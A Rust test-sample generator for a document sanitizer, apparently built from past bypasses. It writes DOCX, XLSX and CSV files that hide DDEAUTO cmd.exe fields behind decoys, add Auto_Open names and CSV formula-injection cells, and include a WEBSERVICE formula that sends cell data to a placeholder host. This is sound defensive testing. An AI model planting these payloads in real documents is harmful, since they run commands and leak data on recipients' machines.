//! What stands beside a thing that acts so that a judge looks past it: each got something through once.

use super::{
    docx::{docx, with_picture},
    package::escape,
    xlsx::xlsx,
};
use crate::sample::{Expect, Index, KillMarker, Marks};

const DOCUMENT: &str = "word/document.xml";
const WORKBOOK: &str = "xl/workbook.xml";
const SHEET: &str = "xl/worksheets/sheet1.xml";

/// A field in which `instruction` stands, shown as the KEEP marker.
fn field(m: &Marks, instruction: &str) -> String {
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
    format!("<w:p>{begin}{instruction}{separate}<w:r><w:t>result {}</w:t></w:r>{end}</w:p>", m.keep)
}

/// The instruction that is hidden beside others, as text of an attribute or an element.
fn dde(m: &Marks) -> String {
    escape(&format!(r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k {}" "#, m.kill))
}

fn dde_run(m: &Marks) -> String {
    format!("<w:r><w:instrText xml:space=\"preserve\">{}</w:instrText></w:r>", dde(m))
}

/// An instruction that may stay, to be taken for the beginning of the other.
const DECOY: &str = "<w:instrText>= 1 </w:instrText>";

/// A body of a document that declares the prefix `foo` for a namespace nobody knows.
type Body = fn(&Marks) -> String;

const FIELDS: [(&str, Body); 7] = [
    ("decoy-in-foreign-element", |m| {
        field(m, &format!("<foo:bar><w:r>{DECOY}</w:r></foo:bar>{}", dde_run(m)))
    }),
    ("decoy-of-foreign-namespace", |m| {
        field(m, &format!("<w:r><foo:instrText>= 1 </foo:instrText></w:r>{}", dde_run(m)))
    }),
    ("decoy-in-ruby", |m| {
        let ruby = format!(
            "<w:r><w:ruby><w:rubyPr/><w:rt><w:r>{DECOY}</w:r></w:rt><w:rubyBase><w:r><w:t>x</w:t></w:r></w:rubyBase>\
             </w:ruby></w:r>"
        );
        field(m, &format!("{ruby}{}", dde_run(m)))
    }),
    ("decoy-in-properties", |m| field(m, &format!("<w:r><w:rPr>{DECOY}</w:rPr></w:r>{}", dde_run(m)))),
    ("second-instruction-first", |m| {
        format!(
            "<w:p><w:fldSimple foo:instr=\" PAGE \" w:instr=\"{}\"><w:r><w:t>{}</w:t></w:r></w:fldSimple></w:p>",
            dde(m),
            m.keep
        )
    }),
    ("instruction-without-prefix", |m| {
        format!(
            "<w:p><w:fldSimple instr=\" PAGE \" w:instr=\"{}\"><w:r><w:t>{}</w:t></w:r></w:fldSimple></w:p>",
            dde(m),
            m.keep
        )
    }),
    ("second-mark-of-a-field", |m| {
        let mark = |shown: &str, meant: &str| {
            format!("<w:r><w:fldChar foo:fldCharType=\"{shown}\" w:fldCharType=\"{meant}\"/></w:r>")
        };
        let instruction = format!(
            "<w:r><w:instrText>= </w:instrText></w:r>{}<w:r><w:instrText>PAGE</w:instrText></w:r>{}{}",
            mark("begin", "end"),
            mark("end", "begin"),
            dde_run(m)
        );
        field(m, &instruction)
    }),
];

/// Names that start by themselves, `{kill}` standing for the marker.
const NAMES: [(&str, &str); 2] = [
    (
        "second-name",
        "<definedName xmlns:foo=\"urn:example:foo\" foo:name=\"bar\" name=\"Auto_Open\" comment=\"{kill}\">Sheet1!$A$1\
         </definedName>",
    ),
    ("without-formula", "<definedName name=\"_xlnm.Auto_Open\" comment=\"{kill}\"/>"),
];

/// A table whose lines another program splits at the other delimiter.
const CELLS: [(&str, &str); 6] = [
    ("blank-behind-sign", "= cmd|' /C {kill}'!A0"),
    ("reference-first", "=$A$1+cmd|' /C {kill}'!A0"),
    ("array-first", "={1}+cmd|' /C {kill}'!A0"),
    ("sheet-first", "=!A+cmd|' /C {kill}'!A0"),
    ("text-first", "-\"x\"+cmd|' /C {kill}'!A0"),
    ("call-behind-blank", "@ SUM(cmd|' /C {kill}'!A0)"),
];

/// The samples.
pub(super) fn samples(index: &mut Index) {
    let sanitized = (Expect::Sanitized, KillMarker::Absent);
    for (variant, body) in FIELDS {
        let make = move |m: &Marks| {
            let package = docx(m).fill(DOCUMENT, "ns", " xmlns:foo=\"urn:example:foo\"");
            package.fill(DOCUMENT, "body", &body(m)).zip()
        };
        index
            .add("docx.dde-field-complex-split", "docx", sanitized.0, sanitized.1, Box::new(make))
            .variant(variant)
            .also(&["docx.dde-field-simple", "docx.field-allowlist", "docx.dde-field-inside-containers"]);
    }
    for (variant, name) in NAMES {
        let make = move |m: &Marks| xlsx(m).fill(WORKBOOK, "names", &name.replace("{kill}", &m.kill)).zip();
        index.add("xlsx.auto-open-names", "xlsx", sanitized.0, sanitized.1, Box::new(make)).variant(variant);
    }
    index
        .absent("xlsx.cf-dv-chart-formulas", "xlsx", |m| {
            let rule = format!(
                "<conditionalFormatting sqref=\"A1:A3\"><cfRule type=\"colorScale\" priority=\"1\"><colorScale>\
                 <cfvo type=\"min\"/><cfvo type=\"formula\" val=\"_xlfn.WEBSERVICE(&quot;https://{}/?&quot;&amp;A1)\"/>\
                 <color rgb=\"FFFF0000\"/><color rgb=\"FF00FF00\"/></colorScale></cfRule></conditionalFormatting>",
                m.host
            );
            xlsx(m).fill(SHEET, "after", &rule).zip()
        })
        .variant("bound-of-a-scale")
        .also(&["xlsx.webservice-and-network-functions"]);
    index
        .absent("xlsx.formula-direct-remote-ref", "xlsx", |m| {
            let text = format!("INDIRECT(\"'ht\"&amp;\"tps:/\"&amp;\"/{}/x.ods'#$Sheet1.A1\")", m.host);
            let cell = format!("<row r=\"50\"><c r=\"A50\"><f>{text}</f><v>7</v></c></row>");
            xlsx(m).fill(SHEET, "rows", &cell).zip()
        })
        .variant("address-in-pieces")
        .also(&["xlsx.webservice-and-network-functions", "xlsx.external-workbook-link"]);
    index
        .absent("ooxml.linked-picture", "docx", |m| {
            let package = with_picture(m).external(DOCUMENT, "rIdWeb", "hyperlink", &m.url("a.png"));
            let is_picture = |text: String| {
                let (before, rest) = text.split_once("r:embed=\"").unwrap_or_default();
                let behind = rest.split_once('"').map_or("", |(_, behind)| behind);
                format!("{before}r:embed=\"rIdWeb\"{behind}").into_bytes()
            };
            package.body(DOCUMENT, is_picture).zip()
        })
        .variant("relationship-of-a-link")
        .also(&["opc.orphan-part", "opc.rel-external-catch-all"]);
    for (variant, cell) in CELLS {
        let make = move |m: &Marks| {
            let cell = cell.replace("{kill}", &m.kill);
            format!("1,2,{};{cell}\n3,4,5\n", m.keep).into_bytes()
        };
        index
            .add("csv.delimiter-quote-confusion", "csv", Expect::Sanitized, KillMarker::Stays, Box::new(make))
            .variant(variant)
            .also(&["csv.dde-and-network-functions", "csv.formula-injection"]);
    }
}
